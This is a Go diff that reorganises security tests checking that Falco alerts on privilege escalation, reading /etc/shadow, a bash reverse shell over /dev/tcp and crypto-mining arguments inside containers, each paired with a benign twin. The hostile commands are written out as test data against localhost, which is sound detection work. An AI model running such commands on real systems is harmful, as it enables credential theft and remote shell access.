@@ -31,27 +31,33 @@ const (
 // alertTimeout is what Falco may take from the act to its line in the log.
 const alertTimeout = 30 * time.Second
 
-// acts are what Falco must see, each with a benign twin that it must not.
-var acts = []struct{ id, rule, act, benign string }{
-	{"POL-025", "Privilege escalation in a container", "su root -c true", "sum /etc/hostname"},
-	{"POL-026", "Sensitive file read in a container", "cat /etc/shadow", "cat /etc/passwd"},
-	{"POL-027", "Reverse shell in a container", "bash -i >/dev/tcp/127.0.0.1/9 0>&1 || true", "true >/dev/tcp/127.0.0.1/9 || true"},
-	{"POL-028", "Crypto mining in a container", "true --donate-level=1 stratum+tcp://127.0.0.1:3333", "true --threads=1"},
+func TestPrivilegeEscalationIsSeen(t *testing.T) {
+	runFalco(t, "POL-025", "Privilege escalation in a container", "su root -c true", "sum /etc/hostname")
 }
 
-// TestFalco proves that each act raises its alert, and its benign twin none.
-func TestFalco(t *testing.T) {
-	for _, a := range acts {
-		t.Run(a.id, func(t *testing.T) {
-			spec.Run(t, spec.Specification{
-				ID: a.id, Risk: spec.Namespaced, Keys: []string{"falco"},
-				Prove: func(ctx context.Context, t spec.T, env *environment.Environment) {
-					proveAlert(ctx, t, env, a.rule, a.act, a.benign)
-				},
-				CounterProofs: []spec.Sabotage{ruleGone(a.rule)},
-			})
-		})
-	}
+func TestSensitiveFileIsSeen(t *testing.T) {
+	runFalco(t, "POL-026", "Sensitive file read in a container", "cat /etc/shadow", "cat /etc/passwd")
+}
+
+func TestReverseShellIsSeen(t *testing.T) {
+	runFalco(t, "POL-027", "Reverse shell in a container", "bash -i >/dev/tcp/127.0.0.1/9 0>&1", "true >/dev/tcp/127.0.0.1/9")
+}
+
+func TestCryptoMiningIsSeen(t *testing.T) {
+	runFalco(t, "POL-028", "Crypto mining in a container", "true --donate-level=1 stratum+tcp://127.0.0.1:3333", "true --threads=1")
+}
+
+// runFalco proves that an act raises the alert of a rule, and its benign twin
+// none.
+func runFalco(t *testing.T, id, rule, act, benign string) {
+	t.Helper()
+	spec.Run(t, spec.Specification{
+		ID: id, Risk: spec.Namespaced, Keys: []string{"falco"},
+		Prove: func(ctx context.Context, t spec.T, env *environment.Environment) {
+			proveAlert(ctx, t, env, rule, act, benign)
+		},
+		CounterProofs: []spec.Sabotage{ruleGone(rule)},
+	})
 }
 
 func proveAlert(ctx context.Context, t spec.T, env *environment.Environment, rule, act, benign string) {
